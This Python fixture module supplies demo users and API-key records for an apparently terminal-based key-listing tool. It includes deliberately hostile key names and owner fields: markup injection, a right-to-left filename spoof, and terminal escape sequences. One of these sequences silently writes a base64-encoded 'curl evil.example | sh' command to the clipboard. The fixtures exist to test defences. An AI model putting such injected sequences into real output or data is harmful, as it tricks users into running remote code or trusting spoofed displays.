"""The people and the keys of the demo: believable ones, and ones that break careless programs."""

from __future__ import annotations

from typing import NamedTuple

SIGNED_IN_USER = "ana@acme.example"
SIGN_IN_KEY = "laptop-terminal"
"""The name of the signed-in user's key that the demo's own credentials belong to."""


class PlannedKey(NamedTuple):
    """A key with its ages in days; no creation date or no last use is None."""

    name: str
    created: float | None
    last_used: float | None


OWN_KEYS = [
    PlannedKey("laptop-terminal", 24, 5 / 24),
    PlannedKey("ci-runner", 191, 2 / 1440),
    PlannedKey("airflow-prod", 143, 38 / 1440),
    PlannedKey("training-scheduler", 88, 3 / 24),
    PlannedKey("grafana-dashboards", 212, 1.3),
    PlannedKey("model-registry-sync", 57, 12),
    PlannedKey("nightly-benchmark-of-the-recommendation-models-in-eu-west-1", 118, 26),
    PlannedKey("quarterly-cost-report", 301, 52),
    PlannedKey("notebook-export", 164, 61),
    PlannedKey("data-loader-staging", 240, 80),
    PlannedKey("slurm-bridge", 398, 133),
    PlannedKey("tmp-migration", 75, None),
]

COLLEAGUES = {
    "bo.lindqvist@acme.example": 9,
    "chidi.okafor@acme.example": 8,
    "dana.levi@acme.example": 8,
    "emil.novak@acme.example": 7,
    "farah.haddad@acme.example": 6,
    "grace.kim@acme.example": 6,
    "hugo.martins@acme.example": 5,
    "ines.garcia@acme.example": 5,
    "Kenji.Sato@acme.example": 4,
    "ml-platform@acme.example": 4,
}
"""How many ordinary keys each of the others has."""

KEY_NAMES = [
    "airflow-prod",
    "airflow-staging",
    "argo-workflows",
    "batch-inference",
    "billing-export",
    "ci-runner",
    "cluster-autoscaler",
    "cost-report",
    "data-loader",
    "dbt-nightly",
    "demo-booth",
    "feature-store",
    "github-actions",
    "gitlab-ci",
    "grafana",
    "hackathon-2025",
    "home-office",
    "jenkins-old",
    "jupyter-hub",
    "kubeflow-pipelines",
    "laptop",
    "llm-finetuning",
    "metrics-scraper",
    "mlflow-sync",
    "model-registry",
    "notebook-export",
    "onboarding-test",
    "prometheus",
    "quota-watch",
    "ray-cluster",
    "slack-bot",
    "terraform",
    "thesis-experiments",
    "tmp-migration",
    "vscode-remote",
    "workstation",
]

CROWD = {
    f"user{number:02d}@acme.example": count
    for number, count in enumerate(
        (20, 19, 18, 17, 15, 14, 13, 12, 11, 11, *[7] * 44, *[6] * 5), start=1
    )
}
"""How many keys each of many others has: 59 owners of 488 keys."""

OLD_HANDS = frozenset(list(CROWD)[-6:])
"""Those whose keys are all older than what a list is cut off at."""

_LONGEST_NAME = ("a-key-whose-name-is-as-long-as-the-contract-allows-" * 6)[:254] + "z"

AWKWARD_KEYS = [
    (PlannedKey("[/x]", 130, 4), "bo.lindqvist@acme.example"),
    (PlannedKey("[RED] team", 97, 0.2), "chidi.okafor@acme.example"),
    (PlannedKey("[@click=app.quit]click[/]", 205, 70), "dana.levi@acme.example"),
    (PlannedKey(_LONGEST_NAME, 46, 9), "emil.novak@acme.example"),
    (PlannedKey("東京-実験用キー", 152, 30), "Kenji.Sato@acme.example"),
    (PlannedKey("re\u0301sume\u0301-parser-n\u0303andu\u0301", 66, 51), "ines.garcia@acme.example"),
    (PlannedKey("מפתח-ייצור", 81, 2), "dana.levi@acme.example"),
    (PlannedKey("مفتاح-التدريب", 260, 120), "farah.haddad@acme.example"),
    (PlannedKey("invoice-\u202egnp.stset", 33, None), "grace.kim@acme.example"),
    (
        PlannedKey("\U0001f469\u200d\U0001f4bb-\U0001f468\u200d\U0001f469\u200d\U0001f467", 20, 6),
        "hugo.martins@acme.example",
    ),
    (PlannedKey("imported-from-2-20", None, 400), "ml-platform@acme.example"),
    # OSC 52 sets the clipboard, OSC 0 the title, CSI clears the screen: all of them sent by whoever
    # can choose what is in a createdBy.
    (
        PlannedKey("shared-terminal", 58, 1),
        "mallory\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07@acme.example",
    ),
    (
        PlannedKey("tmux-helper", 110, 94),
        "\x1b]0;owned\x1b\\\x1b[2J\x1b[31mtrent@acme.example\x1b[0m",
    ),
]
"""Keys and their owners as no well-meant program would make them."""
